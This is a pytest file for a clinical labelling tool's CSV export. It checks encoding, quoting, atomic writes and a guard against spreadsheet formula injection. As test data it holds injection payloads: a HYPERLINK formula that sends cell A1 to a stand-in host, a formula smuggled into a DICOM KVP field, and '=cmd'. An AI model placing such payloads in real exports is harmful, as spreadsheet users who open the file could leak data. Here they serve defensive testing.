"""The labels CSV as a user meets it: columns, encoding, quoting, formula safety, atomicity."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from clinlabel.errors import OutputError
from clinlabel.exports import LabelRow
from clinlabel.exports.csv import write_frame_labels_csv, write_labels_csv
from clinlabel.exports.csv_import import read_labels_csv
from clinlabel.exports.formula_guard import guard_cell, unguard_cell


def row(
    file: str = "XC_CLINICAL/img1.jpg",
    *,
    label: str = "Suspicious",
    comment: str = "",
    case: str = "Case_001",
    visit: str = "Visit_1",
    annotator: str = "dr.rao",
    seconds: float | None = 4.25,
    frame: int = 0,
    geometry: str | None = None,
) -> LabelRow:
    return LabelRow(
        case, visit, file, label, comment, annotator, "2026-11-22T10:15:03.123456Z",
        seconds, "ab" * 32, frame, geometry,
    )  # fmt: skip


GEOMETRY_HEADER = [
    "positioner_primary_angle_deg", "positioner_secondary_angle_deg", "source_to_detector_mm",
    "source_to_patient_mm", "table_height_mm", "table_vertical_mm", "table_longitudinal_mm",
    "table_lateral_mm", "kvp", "frame_time_ms",
]  # fmt: skip


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_header_is_the_seed_columns_in_order_and_rows_are_counted(tmp_path: Path) -> None:
    out = tmp_path / "clinical_labels.csv"
    written = write_labels_csv(
        [row(), row("XC_CLINICAL/img2.png", label="NA", comment="dark")], out
    )
    assert written == 2
    assert read_back(out) == [
        ["case", "visit", "file", "label", "comment"],
        ["Case_001", "Visit_1", "XC_CLINICAL/img1.jpg", "Suspicious", ""],
        ["Case_001", "Visit_1", "XC_CLINICAL/img2.png", "NA", "dark"],
    ]


def test_file_starts_with_a_bom_and_uses_crlf_line_ends(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv([row()], out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfcase,visit,file,label,comment\r\n")
    assert raw.endswith(b"\r\n")


def test_plain_tuples_without_a_frame_are_accepted(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    plain = tuple(row())[:9]
    assert write_labels_csv([plain], out) == 1
    assert read_back(out)[1][:4] == ["Case_001", "Visit_1", "XC_CLINICAL/img1.jpg", "Suspicious"]


@pytest.mark.parametrize(
    "comment",
    [
        'blurred, "retake" later',
        "line one\nline two\r\nline three",
        "रोगी की त्वचा पर घाव",  # Devanagari
        "疑似黑色素瘤，需复查",  # Chinese, with a full-width comma
        "odd mole 🔬👩‍⚕️",  # emoji, including a ZWJ sequence
        '"',
        ",",
        "  leading and trailing spaces  ",
    ],
)
def test_comments_survive_a_round_trip_through_python_csv(tmp_path: Path, comment: str) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv([row(label="NA", comment=comment, case="केस_१", visit="访问 2")], out)
    assert read_back(out)[1] == ["केस_१", "访问 2", "XC_CLINICAL/img1.jpg", "NA", comment]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_triggers_are_defused_and_the_importer_restores_them(
    tmp_path: Path, trigger: str
) -> None:
    comment = f'{trigger}HYPERLINK("http://x.example/?"&A1,"click")'
    out = tmp_path / "labels.csv"
    write_labels_csv([row(label="NA", comment=comment, file=f"{trigger}odd.jpg")], out)
    cells = read_back(out)[1]
    assert cells[4] == "'" + comment
    assert cells[2] == f"'{trigger}odd.jpg"
    [imported] = read_labels_csv(out)
    assert imported.comment == comment
    assert imported.file == f"{trigger}odd.jpg"


@pytest.mark.parametrize(
    "original",
    ["'=already quoted", "''+twice", "'plain apostrophe", "'", "''", "it's fine", "-", "=", ""],
)
def test_guard_is_exactly_reversible(original: str) -> None:
    assert unguard_cell(guard_cell(original)) == original


@pytest.mark.parametrize("text", ["Suspicious", "'plain apostrophe", "", "3 - 4", "a=b"])
def test_text_that_cannot_start_a_formula_is_written_unchanged(text: str) -> None:
    assert guard_cell(text) == text


def test_apostrophe_then_trigger_round_trips_through_a_file(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv([row(label="NA", comment="'=1+1")], out)
    assert read_back(out)[1][4] == "''=1+1"
    assert read_labels_csv(out)[0].comment == "'=1+1"


def test_detailed_adds_a_fixed_set_of_columns_geometry_included(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv(
        [
            row(annotator="=cmd", seconds=3.14159),
            row("XC/b.jpg", seconds=None, geometry='{"kvp": 80, "frame_time": null}'),
        ],
        out,
        detailed=True,
    )
    header, first, second = read_back(out)
    # The same columns whether or not any row has geometry: no frame column (whole-file
    # labels only), the geometry columns always there, empty where unknown.
    assert header == [
        "case", "visit", "file", "label", "comment",
        "annotator", "labelled_at_utc", "seconds", "sha256", *GEOMETRY_HEADER,
    ]  # fmt: skip
    assert first[5:9] == ["'=cmd", "2026-11-22T10:15:03.123456Z", "3.142", "ab" * 32]
    assert first[9:] == [""] * len(GEOMETRY_HEADER)
    assert second[7] == ""  # unknown time stays empty, never 0
    assert second[9 + GEOMETRY_HEADER.index("kvp")] == "80"
    assert second[9 + GEOMETRY_HEADER.index("frame_time_ms")] == ""

    photos_only = tmp_path / "photos.csv"
    write_labels_csv([row()], photos_only, detailed=True)
    assert read_back(photos_only)[0] == header


@pytest.mark.parametrize("detailed", [False, True])
def test_the_labels_csv_refuses_frame_labels(tmp_path: Path, *, detailed: bool) -> None:
    out = tmp_path / "labels.csv"
    out.write_text("previous export\n", encoding="utf-8")
    with pytest.raises(OutputError, match="frame 3"):
        write_labels_csv([row(), row(frame=3)], out, detailed=detailed)
    assert out.read_text(encoding="utf-8") == "previous export\n"


def test_frame_labels_csv_has_frame_after_file_and_geometry_after_comment(tmp_path: Path) -> None:
    out = tmp_path / "clinical_frame_labels.csv"
    geometry = '{"positioner_primary_angle": -30.5, "kvp": 80}'
    assert write_frame_labels_csv(
        [row("XC/run.dcm", frame=3, geometry=geometry), row("XC/run.dcm", frame=7, label="NA",
         comment="=motion")], out,
    ) == 2  # fmt: skip
    header, first, second = read_back(out)
    assert header == ["case", "visit", "file", "frame", "label", "comment", *GEOMETRY_HEADER]
    assert first[:6] == ["Case_001", "Visit_1", "XC/run.dcm", "3", "Suspicious", ""]
    assert first[6] == "-30.5"
    assert first[6 + GEOMETRY_HEADER.index("kvp")] == "80"
    assert second[3:6] == ["7", "NA", "'=motion"]
    assert second[6:] == [""] * len(GEOMETRY_HEADER)
    # Our importer reads the frame file back: frame numbers and comments as given.
    imported = read_labels_csv(out)
    assert [(r.frame, r.label, r.comment) for r in imported] == [
        (3, "Suspicious", ""),
        (7, "NA", "=motion"),
    ]


def test_detailed_frame_labels_csv_adds_who_when_how_long_and_hash(tmp_path: Path) -> None:
    out = tmp_path / "clinical_frame_labels.csv"
    write_frame_labels_csv([row("XC/run.dcm", frame=2)], out, detailed=True)
    header, first = read_back(out)
    assert header == [
        "case", "visit", "file", "frame", "label", "comment", *GEOMETRY_HEADER,
        "annotator", "labelled_at_utc", "seconds", "sha256",
    ]  # fmt: skip
    assert first[-4:] == ["dr.rao", "2026-11-22T10:15:03.123456Z", "4.25", "ab" * 32]


def _failing_rows() -> Iterator[LabelRow]:
    yield row()
    yield row("XC/2.jpg")
    raise RuntimeError("database went away")


def test_a_failure_midway_leaves_no_file(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    with pytest.raises(RuntimeError):
        write_labels_csv(_failing_rows(), out)
    assert list(tmp_path.iterdir()) == []


def test_a_failure_midway_keeps_the_previous_export_intact(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv([row()], out)
    before = out.read_bytes()
    with pytest.raises(RuntimeError):
        write_labels_csv(_failing_rows(), out, detailed=True)
    assert out.read_bytes() == before
    assert list(tmp_path.iterdir()) == [out]


@pytest.mark.parametrize("options", [{}, {"detailed": True}])
def test_a_null_comment_is_an_empty_cell(tmp_path: Path, options: dict[str, bool]) -> None:
    out = tmp_path / "labels.csv"
    write_labels_csv(
        [("C", "V", "XC/a.jpg", "Suspicious", None, "a", "t", None, None)], out, **options
    )
    assert read_back(out)[1][4] == ""
    frames = tmp_path / "frames.csv"
    write_frame_labels_csv(
        [("C", "V", "XC/a.dcm", "Suspicious", None, "a", "t", None, None, 2, None)], frames
    )
    assert read_back(frames)[1][5] == ""


def test_empty_export_has_just_the_header(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    assert write_labels_csv([], out) == 0
    assert read_back(out) == [["case", "visit", "file", "label", "comment"]]


def test_module_named_csv_still_uses_the_standard_library() -> None:
    import clinlabel.exports.csv as ours

    assert ours.csv is csv
    assert hasattr(ours.csv, "writer")


def test_pandas_reads_the_export_like_python_csv(tmp_path: Path) -> None:
    pandas = pytest.importorskip("pandas")
    out = tmp_path / "labels.csv"
    comment = 'multi\nline, "quoted" 疑似 🔬'
    write_labels_csv([row(label="NA", comment=comment)], out)
    frame = pandas.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    assert list(frame.columns) == ["case", "visit", "file", "label", "comment"]
    assert frame.loc[0, "comment"] == comment


def test_writer_output_is_what_a_bare_csv_writer_would_write_for_safe_rows(tmp_path: Path) -> None:
    out = tmp_path / "labels.csv"
    rows = [row(comment='a, "b"\nc'), row("XC/x.jpg")]
    write_labels_csv(rows, out)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected)
    writer.writerow(["case", "visit", "file", "label", "comment"])
    writer.writerows(r[:5] for r in rows)
    assert out.read_bytes() == b"\xef\xbb\xbf" + expected.getvalue().encode("utf-8")


@pytest.mark.parametrize("frame", [0, 4])
def test_attack_a_dicom_text_where_a_geometry_number_belongs_is_defused(
    tmp_path: Path, frame: int
) -> None:
    # A DICOM file may store KVP (a number) with a text VR: the geometry keeps the text as read
    # (imaging.geometry), and a spreadsheet would run it as a formula from the CSV.
    from pydicom.dataset import Dataset

    from clinlabel.imaging.geometry import geometry_of

    dataset = Dataset()
    dataset.Modality = "XA"
    dataset.add_new(0x00180060, "LO", '=HYPERLINK("http://example.invalid","open")')
    dataset.add_new(0x00181510, "DS", "-30.5")
    geometry = json.dumps(geometry_of(dataset))
    out = tmp_path / "labels.csv"
    if frame:
        write_frame_labels_csv([row("XC/run.dcm", frame=frame, geometry=geometry)], out)
        offset = 6
    else:
        write_labels_csv([row("XC/run.dcm", geometry=geometry)], out, detailed=True)
        offset = 9
    _, written = read_back(out)
    geometry_cells = written[offset : offset + len(GEOMETRY_HEADER)]
    assert geometry_cells[GEOMETRY_HEADER.index("kvp")] == (
        '\'=HYPERLINK("http://example.invalid","open")'
    )
    assert geometry_cells[0] == "-30.5"  # a number stays a number
